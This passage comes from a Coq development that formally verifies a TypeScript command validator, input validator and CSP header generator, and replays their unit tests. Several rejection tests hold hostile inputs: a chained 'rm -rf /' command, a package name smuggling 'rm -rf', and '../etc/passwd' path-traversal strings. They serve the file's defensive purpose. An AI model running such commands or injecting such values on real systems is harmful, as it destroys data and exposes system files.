  { right. exists (lit "types"), (lit "node"). repeat split. }
  split; [exact H |].
  destruct (validatePackageName_grammar (lit " @types/node "))
    as (_ & Hg & Hacc & _).
  exact (Hacc (proj2 Hg (or_introl H))).
Defined.

End PackageNameFacts.

(* ===================================================================== *)
(** * inputValidator.ts: process identifiers                              *)
(* ===================================================================== *)

Section PidFacts.

Import InputValidator.

(** A finite number is an integer when its value [±m * 2^e] is one. *)
Lemma isInteger_value (s : bool) (m : positive) (e : Z) :
  Number_isInteger (JSNumber (S754_finite s m e)) = true
  <-> exists k, is_integer_value (S754_finite s m e) k.
Proof.
  unfold Number_isInteger, is_integer_value.
  destruct (0 <=? e)%Z eqn:He; simpl.
  - split; [eauto | reflexivity].
  - apply Z.leb_gt in He.
    assert (Hpow : (0 < 2 ^ (- e))%Z) by (apply Z.pow_pos_nonneg; lia).
    rewrite Z.eqb_eq, Z.mod_divide by lia. unfold Z.divide. split.
    + intros (k & Hk). destruct s.
      * exists (- k)%Z. lia.
      * exists k. exact Hk.
    + intros (k & Hk). destruct s.
      * exists (- k)%Z. lia.
      * exists k. exact Hk.
Qed.

(** Among the finite integers, the positive ones are those above zero. *)
Lemma positive_value (s : bool) (m : positive) (e : Z) (k : Z) :
  is_integer_value (S754_finite s m e) k ->
  (number_le (S754_finite s m e) zero = false <-> (0 < k)%Z).
Proof.
  unfold is_integer_value, number_le, zero, SFleb. simpl.
  destruct (0 <=? e)%Z eqn:He.
  - apply Z.leb_le in He.
    assert (Hpow : (0 < 2 ^ e)%Z) by (apply Z.pow_pos_nonneg; lia).
    intros ->. destruct s; split; try discriminate; try reflexivity; nia.
  - apply Z.leb_gt in He.
    assert (Hpow : (0 < 2 ^ (- e))%Z) by (apply Z.pow_pos_nonneg; lia).
    intros Hk. destruct s; split; try discriminate; try reflexivity; nia.
Qed.

Lemma validatePID_accepts (v : jsvalue) :
  valid (validatePID v) = true
  <-> exists x k, v = JSNumber x /\ is_integer_value x k /\ (0 < k)%Z.
Proof.
  split.
  - destruct v as [| | |x| | | |]; try discriminate.
    destruct x as [s|s| |s m e];
      try (intros H; cbv in H; discriminate H).
    unfold validatePID.
    change (Number_isNaN (JSNumber (S754_finite s m e))) with false.
    change (Number_isFinite (JSNumber (S754_finite s m e))) with true.
    cbv beta iota. cbn [negb].
    destruct (Number_isInteger (JSNumber (S754_finite s m e))) eqn:Hi;
      [| discriminate].
    apply isInteger_value in Hi. destruct Hi as (k & Hk).
    cbn [negb].
    destruct (number_le (S754_finite s m e) zero) eqn:Hle; [discriminate |].
    intros _. exists (S754_finite s m e), k. repeat split; auto.
    apply (positive_value s m e k Hk). exact Hle.
  - intros (x & k & -> & Hk & Hpos).
    destruct x as [s|s| |s m e]; simpl in Hk; try contradiction.
    + lia.
    + unfold validatePID.
      change (Number_isNaN (JSNumber (S754_finite s m e))) with false.
      change (Number_isFinite (JSNumber (S754_finite s m e))) with true.
      cbv beta iota. cbn [negb].
      assert (Hi : Number_isInteger (JSNumber (S754_finite s m e)) = true)
        by (apply isInteger_value; exists k; exact Hk).
      rewrite Hi. cbn [negb].
      apply (positive_value s m e k Hk) in Hpos. rewrite Hpos. reflexivity.
Qed.

(** ** C6 *)

(** C6 (process identifiers).  [validatePID] accepts exactly the numbers
    whose value is a finite positive integer, and returns the number it was
    given.  Any other input is rejected with the reason of the first
    condition that applies, in this order: not a number, NaN, not finite,
    not an integer, not positive; the five reasons are pairwise distinct. *)
Theorem validatePID_order (v : jsvalue) :
  (valid (validatePID v) = true
   <-> exists x k, v = JSNumber x /\ is_integer_value x k /\ (0 < k)%Z)
  /\ (valid (validatePID v) = true
      -> exists x, v = JSNumber x /\ validatePID v = accept x)
  /\ error (validatePID v) = first_rejection pid_rejections v
  /\ (valid (validatePID v) = true
      <-> first_rejection pid_rejections v = None)
  /\ map snd pid_rejections
     = [ ERR_PID_TYPE; ERR_PID_NAN; ERR_PID_FINITE; ERR_PID_INTEGER;
         ERR_PID_POSITIVE ]
  /\ NoDup (map snd pid_rejections).
Proof.
  split; [apply validatePID_accepts |].
  split; [| split; [| split; [| split]]].
  - destruct v as [| | |x| | | |]; try discriminate.
    intros H. exists x. split; [reflexivity |].
    unfold validatePID in *.
    destruct (Number_isNaN (JSNumber x)); [discriminate |].
    destruct (negb (Number_isFinite (JSNumber x))); [discriminate |].
    destruct (negb (Number_isInteger (JSNumber x))); [discriminate |].
    destruct (number_le x zero); [discriminate | reflexivity].
  - destruct v as [| | |x| | | |]; try reflexivity.
    unfold validatePID, pid_rejections, first_rejection.
    change (typeof (JSNumber x)) with TyNumber. cbv beta iota.
    destruct (Number_isNaN (JSNumber x)); [reflexivity |].
    destruct (negb (Number_isFinite (JSNumber x))); [reflexivity |].
    destruct (negb (Number_isInteger (JSNumber x))); [reflexivity |].
    destruct (number_le x zero); reflexivity.
  - destruct v as [| | |x| | | |]; try (split; discriminate).
    unfold validatePID, pid_rejections, first_rejection.
    change (typeof (JSNumber x)) with TyNumber. cbv beta iota.
    destruct (Number_isNaN (JSNumber x)); [split; discriminate |].
    destruct (negb (Number_isFinite (JSNumber x))); [split; discriminate |].
    destruct (negb (Number_isInteger (JSNumber x))); [split; discriminate |].
    destruct (number_le x zero); split; try discriminate; reflexivity.
  - reflexivity.
  - repeat constructor; simpl; intuition discriminate.
Qed.

Lemma validatePID_order_witness :
  valid (validatePID (JSNumber (of_pos 12345))) = true
  /\ exists x, JSNumber (of_pos 12345) = JSNumber x
               /\ validatePID (JSNumber (of_pos 12345)) = accept x.
Proof.
  split; [reflexivity |].
  exact (proj1 (proj2 (validatePID_order (JSNumber (of_pos 12345)))) eq_refl).
Defined.

End PidFacts.

(* ===================================================================== *)
(** * cspManager.ts: the [script-src] directive                           *)
(* ===================================================================== *)

Section CSPFacts.

Import CSPManager CSPSyntax.



(** *** Splitting at semicolons *)







(** *** Splitting at white space *)







(** *** Reading a serialized table *)















(** ** C9 *)




End CSPFacts.

(* ===================================================================== *)
(** * The unit tests of the repository, replayed on the embedding         *)
(* ===================================================================== *)

Section UnitTests.

(** commandValidator.test.ts *)

Example test_npm_install :
  CommandValidator.validateCommand (lit "npm install lodash")
  = CommandValidator.accept (lit "npm install lodash").
Proof. reflexivity. Qed.

Example test_every_allowed_command :
  forallb (fun cmd => CommandValidator.valid
                        (CommandValidator.validateCommand (cmd ++ lit " --version")))
    CommandValidator.ALLOWED_COMMANDS = true.
Proof. reflexivity. Qed.

Example test_bash_quoted :
  CommandValidator.validateCommand (lit "bash -c " ++ [34; 104; 105; 34]%N)
  = CommandValidator.reject (CommandValidator.ERR_NOT_ALLOWED ++ lit "bash").
Proof. reflexivity. Qed.

Example test_semicolon :
  CommandValidator.validateCommand (lit "npm install; rm -rf /")
  = CommandValidator.reject CommandValidator.ERR_UNSAFE.
Proof. reflexivity. Qed.

Example test_blank_command :
  CommandValidator.validateCommand (lit "   ")
  = CommandValidator.reject CommandValidator.ERR_EMPTY.
Proof. reflexivity. Qed.

Example test_dangerous_pattern :
  forallb (fun c => CommandValidator.containsDangerousChars [c]) dangerous_set
  = true.
Proof. reflexivity. Qed.

Example test_escape :
  CommandValidator.escapeArgument (lit "hello;world")
  = lit "hello" ++ [92; 59]%N ++ lit "world"
  /\ CommandValidator.escapeArgument (lit "hello" ++ [92; 59]%N ++ lit "world")
     = lit "hello" ++ [92; 59]%N ++ lit "world"
  /\ CommandValidator.escapeArgument (lit "npm-package") = lit "npm-package".
Proof. repeat split. Qed.

Example test_escape_backslashes :
  CommandValidator.escapeArgument [92]%N = [92; 92]%N
  /\ CommandValidator.escapeArgument [92; 92; 92]%N = [92; 92; 92; 92]%N
  /\ CommandValidator.escapeArgument [92; 97]%N = [92; 92; 97]%N
  /\ CommandValidator.escapeArgument [92; 92; 59]%N = [92; 92; 92; 59]%N.
Proof. repeat split. Qed.

(** inputValidator.test.ts *)

Example test_package_names :
  forallb (fun x => InputValidator.valid
                      (InputValidator.validatePackageName (lit x)))
    [ "lodash"; "react-dom"; "socket.io"; "lodash_es"; "@types/node";
      "@angular/core"; "7zip-bin"; "requests"; "Django"; "scikit-learn";
      "typing_extensions"; "zope.interface"; "  lodash  "; "a" ]%string
  = true
  /\ forallb (fun x => InputValidator.valid
                         (InputValidator.validatePackageName (lit x)))
       [ ""; "   "; "package;rm -rf"; "my package"; ".hidden";
         "../etc/passwd" ]%string
     = false.
Proof. split; reflexivity. Qed.

Example test_pid_accepted :
  InputValidator.validatePID (JSNumber (of_pos 1))
  = InputValidator.accept (of_pos 1)
  /\ InputValidator.validatePID (JSNumber (of_pos 999999))
     = InputValidator.accept (of_pos 999999).
Proof. split; reflexivity. Qed.

Example test_pid_rejected :
  map (fun v => InputValidator.error (InputValidator.validatePID v))
    [ JSNumber zero; JSNumber minus_one; JSNumber one_and_a_half;
      JSNumber S754_nan; JSNumber (S754_infinity false);
      JSNumber (S754_infinity true); JSString (lit "123"); JSNull;
      JSUndefined; JSObject [(lit "pid", JSNumber (of_pos 123))];
      JSArray [JSNumber (of_pos 123)] ]
  = map Some
      [ InputValidator.ERR_PID_POSITIVE; InputValidator.ERR_PID_POSITIVE;
        InputValidator.ERR_PID_INTEGER; InputValidator.ERR_PID_NAN;
        InputValidator.ERR_PID_FINITE; InputValidator.ERR_PID_FINITE;
        InputValidator.ERR_PID_TYPE; InputValidator.ERR_PID_TYPE;
        InputValidator.ERR_PID_TYPE; InputValidator.ERR_PID_TYPE;
        InputValidator.ERR_PID_TYPE ].
Proof. reflexivity. Qed.

Example test_pid_doubles :
  forallb (valid_binary 53 1024)
    [ of_pos 1; of_pos 123; of_pos 12345; of_pos 999999; minus_one;
      one_and_a_half ] = true.
Proof. reflexivity. Qed.

Example test_paths :
  forallb (fun x => InputValidator.valid (InputValidator.validatePath (lit x)))
    [ "file.txt"; "/home/user/file.txt"; "src/main/index.ts";
      "C:\Users\user\file.txt"; "./src/file.ts" ]%string
  = true
  /\ forallb (fun x => InputValidator.valid (InputValidator.validatePath (lit x)))
       [ "../etc/passwd"; "/home/user/../etc/passwd";
         "../../../../../../etc/passwd"; "C:\Users\..\Admin\file.txt"; "";
         "   " ]%string
     = false
  /\ InputValidator.validatePath (lit "  /home/user/file.txt  ")
     = InputValidator.accept (lit "/home/user/file.txt").
Proof. repeat split. Qed.

(** cspManager.test.ts *)

Example test_csp_production :
  CSPManager.generateCSPHeader
    {| CSPManager.isDevelopment := false; CSPManager.devServerUrl := None;
       CSPManager.nonce := None |}
  = lit "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: https:; connect-src 'self'; font-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'none'".
Proof. reflexivity. Qed.

Example test_csp_development :
  CSPManager.directive (lit "connect-src")
    (CSPManager.requestPolicy
       {| CSPManager.isDevelopment := true;
          CSPManager.devServerUrl := Some (lit "http://localhost:5173");
          CSPManager.nonce := Some (lit "abc") |})
  = Some [ lit "'self'"; lit "http://localhost:*"; lit "ws://localhost:*";
           lit "http://localhost:5173"; lit "ws://localhost:5173" ].
Proof. reflexivity. Qed.

End UnitTests.

(* ===================================================================== *)
(** * commandValidator.ts: more on escaping and on accepted commands      *)
(* ===================================================================== *)

Section EscapeMore.

Import CommandValidator.

Lemma eqb_backslash (c : code_unit) :
  N.eqb c backslash = true -> is_dangerous c = true.
Proof. intros H. apply N.eqb_eq in H. subst. reflexivity. Qed.

Lemma listed_dangerous (c : code_unit) :
  includes_char dangerousChars c = true -> is_dangerous c = true.
Proof. intros H. rewrite is_dangerous_split, H. apply orb_true_r. Qed.

Lemma escape_length (s : jsstring) :
  List.length s <= List.length (escape s) <= 2 * List.length s.
Proof.
  functional induction (escape s) using escape_ind; simpl in *; lia.
Qed.

(** X1 (escaping and length).
    Escaping never shrinks a string and at most doubles its length. *)
Theorem escapeArgument_length (s : jsstring) :
  List.length s <= List.length (escapeArgument s) <= 2 * List.length s.
Proof. rewrite escapeArgument_escape. apply escape_length. Qed.

Lemma escape_dangerous (s : jsstring) :
  existsb is_dangerous (escape s) = existsb is_dangerous s.
Proof.
  functional induction (escape s) using escape_ind; cbn [existsb].
  - reflexivity.
  - rewrite (eqb_backslash c e0). reflexivity.
  - rewrite IHl. reflexivity.
  - rewrite (eqb_backslash c e0). reflexivity.
  - rewrite (eqb_backslash c e0). reflexivity.
  - rewrite (listed_dangerous c e1), orb_true_r. reflexivity.
  - rewrite IHl. reflexivity.
Qed.

(** X2 (escaping keeps the scan result).
    [containsDangerousChars] gives the same answer before and after
    escaping: escaping a string that holds a dangerous character never
    makes it pass the scan, and it flags no string that passed. *)
Theorem escapeArgument_keeps_flag (s : jsstring) :
  containsDangerousChars (escapeArgument s) = containsDangerousChars s.
Proof.
  rewrite !containsDangerousChars_existsb, escapeArgument_escape.
  apply escape_dangerous.
Qed.

End EscapeMore.

Section SafeTokens.

Import CommandValidator.

Lemma safe_token_inv (t : jsstring) :
  safe_token t = true ->
  t <> []
  /\ forallb (fun c => negb (isWhiteSpace c)) t = true
  /\ existsb is_dangerous t = false.
Proof.
  destruct t as [|c r]; [discriminate |]. unfold safe_token.
  intros H. split; [discriminate |]. rewrite forallb_forall in H. split.
  - apply forallb_forall. intros x Hx. apply H in Hx.
    apply andb_true_iff in Hx. tauto.
  - destruct (existsb is_dangerous (c :: r)) eqn:E; auto.
    apply existsb_exists in E. destruct E as (x & Hx & Hd).
    apply H in Hx. rewrite Hd in Hx. rewrite andb_false_r in Hx. discriminate.
Qed.

(** A token followed by a space is the first word of the string. *)
Lemma words_token_app (t rest : jsstring) :
  t <> [] -> forallb (fun c => negb (isWhiteSpace c)) t = true ->
  words (t ++ 32%N :: rest) = t :: words rest.
Proof.
  induction t as [|c t IH]; [congruence |]. intros _ Hc.
  cbn [forallb] in Hc. apply andb_true_iff in Hc. destruct Hc as [Hc Ht].
  apply negb_true_iff in Hc.
  destruct t as [|d t'].
  - change (words ([c] ++ 32%N :: rest))
      with (if isWhiteSpace c then words (32%N :: rest)
            else [c] :: words rest).
    rewrite Hc. reflexivity.
  - change ((c :: d :: t') ++ 32%N :: rest)
      with (c :: d :: (t' ++ 32%N :: rest)).
    rewrite words_cons, Hc.
    assert (Hd : isWhiteSpace d = false).
    { cbn [forallb] in Ht. apply andb_true_iff in Ht.
      apply negb_true_iff. tauto. }
    rewrite Hd.
    change (d :: t' ++ 32%N :: rest) with ((d :: t') ++ 32%N :: rest).
    rewrite IH by (discriminate || assumption). reflexivity.
Qed.

Lemma words_token (t : jsstring) :
  t <> [] -> forallb (fun c => negb (isWhiteSpace c)) t = true ->
  words t = [t].
Proof.
  intros Hne Hc. rewrite <- (words_app_space t [32%N]) by reflexivity.
  apply (words_token_app t [] Hne Hc).
Qed.

(** Splitting undoes joining: the words of tokens joined by single spaces
    are the tokens. *)
Lemma words_join (toks : list jsstring) :
  Forall (fun t => safe_token t = true) toks ->
  words (join [32%N] toks) = toks.
Proof.
  induction 1 as [|t l Ht _ IH]; [reflexivity |].
  destruct (safe_token_inv t Ht) as (Hne & Hws & _).
  destruct l as [|u l'].
  - apply words_token; assumption.
  - change (join [32%N] (t :: u :: l'))
      with (t ++ 32%N :: join [32%N] (u :: l')).
    rewrite words_token_app by assumption. rewrite IH. reflexivity.
Qed.

Lemma join_safe (toks : list jsstring) :
  Forall (fun t => safe_token t = true) toks ->
  existsb is_dangerous (join [32%N] toks) = false.
Proof.
  induction 1 as [|t l Ht _ IH]; [reflexivity |].
  destruct (safe_token_inv t Ht) as (_ & _ & Hd).
  destruct l as [|u l']; [exact Hd |].
  change (join [32%N] (t :: u :: l'))
    with (t ++ 32%N :: join [32%N] (u :: l')).
  rewrite existsb_app, Hd. cbn [existsb orb]. exact IH.
Qed.

Lemma allowed_safe (b : jsstring) :
  In b ALLOWED_COMMANDS -> safe_token b = true.
Proof.
  intros H. assert (G : forallb safe_token ALLOWED_COMMANDS = true)
    by reflexivity.
  rewrite forallb_forall in G. auto.
Qed.

Lemma trim_safe (s : jsstring) :
  existsb is_dangerous s = false -> existsb is_dangerous (trim s) = false.
Proof.
  intros H. destruct (existsb is_dangerous (trim s)) eqn:E; auto.
  apply has_dangerous_existsb, has_dangerous_trim, has_dangerous_existsb in E.
  congruence.
Qed.

Lemma escape_safe_tokens (args : list jsstring) :
  Forall (fun t => safe_token t = true) args ->
  map escapeArgument args = args.
Proof.
  induction 1 as [|a l Ha _ IH]; [reflexivity |].
  cbn [map]. rewrite IH, escapeArgument_escape.
  rewrite escape_safe_id; [reflexivity |]. apply (safe_token_inv a Ha).
Qed.

End SafeTokens.

(** Rewrites [validateCommand] on safe tokens joined by single spaces. *)
Ltac accept_joined Hb Hall :=
  change (lit " ") with [32%N];
  rewrite validateCommand_cases, (words_join _ Hall);
  rewrite Hb, (trim_safe _ (join_safe _ Hall));
  change (lit " ") with [32%N].

Section JoinedCommands.

Import CommandValidator.

(** X3 (safe commands are accepted unchanged).
    An allow-listed command followed by safe tokens, single spaces
    between them, is accepted and returned as it is. *)
Theorem validateCommand_safe_tokens (b : jsstring) (args : list jsstring) :
  In b ALLOWED_COMMANDS ->
  Forall (fun t => safe_token t = true) args ->
  validateCommand (join (lit " ") (b :: args))
  = accept (join (lit " ") (b :: args)).
Proof.
  intros Hb Hargs.
  assert (Hall : Forall (fun t => safe_token t = true) (b :: args))
    by (constructor; [apply allowed_safe; assumption | assumption]).
  apply includes_In in Hb. accept_joined Hb Hall.
  rewrite (escape_safe_tokens args Hargs). reflexivity.
Qed.

Lemma validateCommand_safe_tokens_witness :
  In (lit "cargo") ALLOWED_COMMANDS
  /\ Forall (fun t => safe_token t = true) [lit "build"; lit "--release"]
  /\ validateCommand (lit "cargo build --release")
     = accept (lit "cargo build --release").
Proof.
  assert (Hb : In (lit "cargo") ALLOWED_COMMANDS).
  { apply includes_In. reflexivity. }
  assert (Ha : Forall (fun t => safe_token t = true)
                 [lit "build"; lit "--release"]).
  { constructor; [reflexivity |]. constructor; [reflexivity | constructor]. }
  split; [exact Hb |]. split; [exact Ha |].
  exact (validateCommand_safe_tokens (lit "cargo")
           [lit "build"; lit "--release"] Hb Ha).
Defined.

(** Every word is a non-empty run without white space. *)
Lemma words_are_tokens (s w : jsstring) :
  In w (words s) ->
  w <> [] /\ forallb (fun c => negb (isWhiteSpace c)) w = true.
Proof.
  revert w. induction s as [|c r IH]; [contradiction |].
  intros w. destruct r as [|d r'].
  - simpl. destruct (isWhiteSpace c) eqn:Hc; [contradiction |].
    intros [<- | []]. split; [discriminate |]. simpl. rewrite Hc. reflexivity.
  - rewrite words_cons. destruct (isWhiteSpace c) eqn:Hc; [apply IH |].
    destruct (isWhiteSpace d) eqn:Hd.
    + intros [<- | Hw]; [| apply IH; assumption].
      split; [discriminate |]. simpl. rewrite Hc. reflexivity.
    + destruct (words (d :: r')) as [|w0 ws] eqn:Ew.
      * intros [<- | []]. split; [discriminate |]. simpl. rewrite Hc.
        reflexivity.
      * intros [<- | Hw].
        -- split; [discriminate |]. cbn [forallb]. rewrite Hc.
           apply (IH w0). left; reflexivity.
        -- apply IH. right; assumption.
Qed.

(** X4 (validation is idempotent).
    Validation is idempotent on its result: the sanitized command of an
    accepted command is accepted again and returned unchanged. *)
Theorem validateCommand_idempotent (s c : jsstring) :
  validateCommand s = accept c -> validateCommand c = accept c.
Proof.
  rewrite validateCommand_cases.
  destruct (words s) as [|b args] eqn:Ew; [discriminate |].
  destruct (includes ALLOWED_COMMANDS b) eqn:Hb; [| discriminate].
  destruct (existsb is_dangerous (trim s)) eqn:Hd; [discriminate |].
  intros E0.
  assert (E : join (lit " ") (b :: map escapeArgument args) = c)
    by (unfold accept in E0; congruence).
  clear E0.
  assert (Hs : existsb is_dangerous s = false).
  { destruct (existsb is_dangerous s) eqn:E'; auto.
    apply has_dangerous_existsb, has_dangerous_trim, has_dangerous_existsb in E'.
    congruence. }
  assert (Htok : Forall (fun t => safe_token t = true) args).
  { apply Forall_forall. intros a Ha.
    assert (Hin : In a (words s)) by (rewrite Ew; right; assumption).
    destruct (words_are_tokens s a Hin) as (Hne & Hws).
    pose proof (safe_words s a Hs Hin) as Hsafe.
    destruct a as [|x a']; [congruence |]. unfold safe_token.
    apply forallb_forall. intros y Hy. rewrite forallb_forall in Hws.
    rewrite (Hws y Hy). simpl.
    destruct (is_dangerous y) eqn:Ey; auto.
    assert (existsb is_dangerous (x :: a') = true)
      by (apply existsb_exists; eauto).
    congruence. }
  assert (Hall : Forall (fun t => safe_token t = true) (b :: args)).
  { constructor; [| assumption].
    apply allowed_safe, includes_In; assumption. }
  rewrite (escape_safe_tokens args Htok) in E. rewrite <- E.
  accept_joined Hb Hall.
  rewrite (escape_safe_tokens args Htok). reflexivity.
Qed.

Lemma validateCommand_idempotent_witness :
  validateCommand (lit "  npm   install   lodash  ")
  = accept (lit "npm install lodash")
  /\ validateCommand (lit "npm install lodash")
     = accept (lit "npm install lodash").
Proof.
  assert (H : validateCommand (lit "  npm   install   lodash  ")
              = accept (lit "npm install lodash")) by reflexivity.
  split; [exact H |].
  exact (validateCommand_idempotent (lit "  npm   install   lodash  ")
           (lit "npm install lodash") H).
Defined.

End JoinedCommands.

(* ===================================================================== *)
(** * inputValidator.ts: validated values downstream                      *)
(* ===================================================================== *)

Section ValidatedValues.

Import InputValidator.

(** A string that neither starts nor ends with white space is its own
    trimmed value. *)
Lemma ends_clean_last (t : jsstring) :
  ends_clean t = true ->
  exists pre c, t = pre ++ [c] /\ isWhiteSpace c = false.
Proof.
  induction t as [|x t IH]; [discriminate |].
  destruct t as [|y t'].
  - simpl. intros H. apply negb_true_iff in H. exists [], x. auto.
  - rewrite ends_clean_cons. intros H.
    destruct (IH H) as (pre & c & E & Hc).
    exists (x :: pre), c. rewrite E. auto.
Qed.

Lemma trim_clean (t : jsstring) (c : code_unit) (r : jsstring) :
  t = c :: r -> isWhiteSpace c = false -> ends_clean t = true ->
  trim t = t.
Proof.
  intros Et Hc Hend. unfold trim, trimEnd.
  assert (Hs : trimStart t = t) by (subst t; simpl; rewrite Hc; reflexivity).
  rewrite Hs. destruct (ends_clean_last t Hend) as (pre & z & E & Hz).
  rewrite E at 1. rewrite rev_app_distr. simpl. rewrite Hz. simpl.
  rewrite rev_involutive. symmetry. exact E.
Qed.

Lemma trim_idempotent (s : jsstring) : trim (trim s) = trim s.
Proof.
  destruct (trim_decompose s) as (_ & _ & _ & _ & _ & Hc).
  destruct Hc as [-> | (Hend & c & r & Et & Hws)]; [reflexivity |].
  apply (trim_clean (trim s) c r Et Hws Hend).
Qed.

(** X5 (validators and surrounding white space).
    Both validators read their input through [trim] only: white space
    around the input changes nothing, and an accepted value is accepted
    again as it is. *)
Theorem validators_trim_invariant (s v : jsstring) :
  validatePath (trim s) = validatePath s
  /\ validatePackageName (trim s) = validatePackageName s
  /\ (validatePath s = accept v -> validatePath v = accept v)
  /\ (validatePackageName s = accept v -> validatePackageName v = accept v).
Proof.
  assert (Hp : validatePath (trim s) = validatePath s)
    by (rewrite !validatePath_cases, trim_idempotent; reflexivity).
  assert (Hn : validatePackageName (trim s) = validatePackageName s)
    by (rewrite !validatePackageName_cases, trim_idempotent; reflexivity).
  split; [exact Hp |]. split; [exact Hn |]. split.
  - intros E. assert (Ev : v = trim s).
    { rewrite validatePath_cases in E. destruct (trim s); [discriminate |].
      destruct (dotdotb (n :: l)); [discriminate |].
      unfold accept in E. congruence. }
    subst v. rewrite Hp. exact E.
  - intros E. assert (Ev : v = trim s).
    { rewrite validatePackageName_cases in E.
      destruct (full_match NPM_PACKAGE_PATTERN (trim s)
                || full_match PIP_PACKAGE_PATTERN (trim s)).
      - unfold accept in E. congruence.
      - destruct (trim s); discriminate. }
    subst v. rewrite Hn. exact E.
Qed.

Lemma validators_trim_invariant_witness :
  validatePath (lit "  /home/user/file.txt  ") = accept (lit "/home/user/file.txt")
  /\ validatePath (lit "/home/user/file.txt") = accept (lit "/home/user/file.txt").
Proof.
  assert (E : validatePath (lit "  /home/user/file.txt  ")
              = accept (lit "/home/user/file.txt")) by reflexivity.
  split; [exact E |].
  exact (proj1 (proj2 (proj2 (validators_trim_invariant
                                (lit "  /home/user/file.txt  ")
                                (lit "/home/user/file.txt")))) E).
Defined.

(** Replaces the character constants of a class by their code units. *)
Ltac eval_chars :=
  unfold ch;
  repeat match goal with
         | |- context [N_of_ascii ?a] =>
             let v := eval vm_compute in (N_of_ascii a) in
             change (N_of_ascii a) with v
         end.

Lemma package_char_safe (c : code_unit) :
  package_char c = true ->
  negb (isWhiteSpace c) && negb (is_dangerous c) = true.
Proof.
  unfold package_char, class_has, NPM_TAIL, PIP_INNER, item_has, existsb.
  eval_chars. rewrite !orb_false_r. intros H.
  assert (R : (97 <= c <= 122 \/ 65 <= c <= 90 \/ 48 <= c <= 57
               \/ c = 45 \/ c = 46 \/ c = 95 \/ c = 126 \/ c = 64
               \/ c = 47)%N).
  { repeat rewrite orb_true_iff in H. repeat rewrite andb_true_iff in H.
    repeat rewrite N.leb_le in H. repeat rewrite N.eqb_eq in H. lia. }
  clear H. rewrite andb_true_iff, !negb_true_iff. split.
  - unfold isWhiteSpace.
    repeat rewrite orb_false_iff. repeat rewrite andb_false_iff.
    repeat rewrite N.leb_gt. repeat rewrite N.eqb_neq. lia.
  - unfold is_dangerous, includes_char, dangerous_set, existsb.
    rewrite orb_false_r.
    repeat rewrite orb_false_iff. repeat rewrite N.eqb_neq. lia.
Qed.

Lemma head_is_tail (c : code_unit) :
  class_has NPM_HEAD c = true -> class_has NPM_TAIL c = true.
Proof.
  unfold class_has, NPM_HEAD, NPM_TAIL, existsb.
  repeat rewrite orb_true_iff. tauto.
Qed.

Lemma edge_is_inner (c : code_unit) :
  class_has PIP_EDGE c = true -> class_has PIP_INNER c = true.
Proof.
  unfold class_has, PIP_EDGE, PIP_INNER, existsb.
  repeat rewrite orb_true_iff. tauto.
Qed.

Lemma npm_segment_chars (s : jsstring) :
  npm_segment s = true -> forallb package_char s = true.
Proof.
  destruct s as [|h tl]; [discriminate |]. unfold npm_segment.
  rewrite andb_true_iff. intros [Hh Ht]. cbn [forallb].
  unfold package_char at 1. rewrite (head_is_tail h Hh). cbn [orb].
  apply forallb_forall. intros x Hx. rewrite forallb_forall in Ht.
  unfold package_char. rewrite (Ht x Hx). reflexivity.
Qed.

Lemma npm_name_chars (s : jsstring) :
  npm_name s -> s <> [] /\ forallb package_char s = true.
Proof.
  intros [H | (scope & name & -> & Hs & Hn)].
  - split; [| apply npm_segment_chars; assumption].
    destruct s; discriminate.
  - split; [discriminate |].
    rewrite !forallb_app. rewrite (npm_segment_chars _ Hs).
    rewrite (npm_segment_chars _ Hn). reflexivity.
Qed.

Lemma pip_name_chars (s : jsstring) :
  pip_name s -> s <> [] /\ forallb package_char s = true.
Proof.
  assert (Hedge : forall a, class_has PIP_EDGE a = true ->
                            package_char a = true).
  { intros a Ha. unfold package_char. rewrite (edge_is_inner a Ha).
    rewrite orb_true_r. reflexivity. }
  intros [(a & -> & Ha) | (a & inner & b & -> & Ha & Hi & Hb)].
  - split; [discriminate |]. cbn [forallb]. rewrite (Hedge a Ha).
    reflexivity.
  - split; [discriminate |]. cbn [forallb]. rewrite (Hedge a Ha).
    rewrite forallb_app. cbn [forallb]. rewrite (Hedge b Hb).
    rewrite andb_true_r. cbn [andb].
    apply forallb_forall. intros x Hx. rewrite forallb_forall in Hi.
    unfold package_char. rewrite (Hi x Hx), orb_true_r. reflexivity.
Qed.

Lemma accepted_name_safe (s : jsstring) :
  valid (validatePackageName s) = true -> safe_token (trim s) = true.
Proof.
  rewrite validatePackageName_cases.
  destruct (full_match NPM_PACKAGE_PATTERN (trim s)
            || full_match PIP_PACKAGE_PATTERN (trim s)) eqn:Hm.
  - intros _. apply orb_true_iff in Hm.
    assert (Hc : trim s <> [] /\ forallb package_char (trim s) = true).
    { destruct Hm as [Hm | Hm]; apply full_match_Matches in Hm.
      - apply npm_name_chars, Matches_NPM; assumption.
      - apply pip_name_chars, Matches_PIP; assumption. }
    destruct Hc as [Hne Hc]. destruct (trim s) as [|c r]; [congruence |].
    unfold safe_token. apply forallb_forall. intros x Hx.
    rewrite forallb_forall in Hc. apply package_char_safe. auto.
  - destruct (trim s); discriminate.
Qed.

(** X6 (accepted names are shell-safe).
    An accepted package name is a single shell-safe token: no white space
    and no dangerous character, so a command made of an allow-listed
    program, safe tokens and that name passes [validateCommand]
    unchanged. *)
Theorem validatePackageName_feeds_validateCommand
  (s b : jsstring) (opts : list jsstring) :
  valid (validatePackageName s) = true ->
  In b CommandValidator.ALLOWED_COMMANDS ->
  Forall (fun t => safe_token t = true) opts ->
  safe_token (trim s) = true
  /\ CommandValidator.validateCommand
       (join (lit " ") (b :: opts ++ [trim s]))
     = CommandValidator.accept (join (lit " ") (b :: opts ++ [trim s])).
Proof.
  intros Hv Hb Ho. pose proof (accepted_name_safe s Hv) as Hs.
  split; [exact Hs |].
  assert (Hargs : Forall (fun t => safe_token t = true) (opts ++ [trim s])).
  { apply Forall_app. split; [assumption |]. constructor; [assumption |].
    constructor. }
  assert (Hall : Forall (fun t => safe_token t = true)
                   (b :: opts ++ [trim s]))
    by (constructor; [apply allowed_safe; assumption | assumption]).
  apply includes_In in Hb. accept_joined Hb Hall.
  rewrite (escape_safe_tokens _ Hargs). reflexivity.
Qed.

Lemma validatePackageName_feeds_validateCommand_witness :
  valid (validatePackageName (lit " @types/node ")) = true
  /\ In (lit "npm") CommandValidator.ALLOWED_COMMANDS
  /\ Forall (fun t => safe_token t = true) [lit "install"; lit "--save-dev"]
  /\ safe_token (lit "@types/node") = true
  /\ CommandValidator.validateCommand (lit "npm install --save-dev @types/node")
     = CommandValidator.accept (lit "npm install --save-dev @types/node").
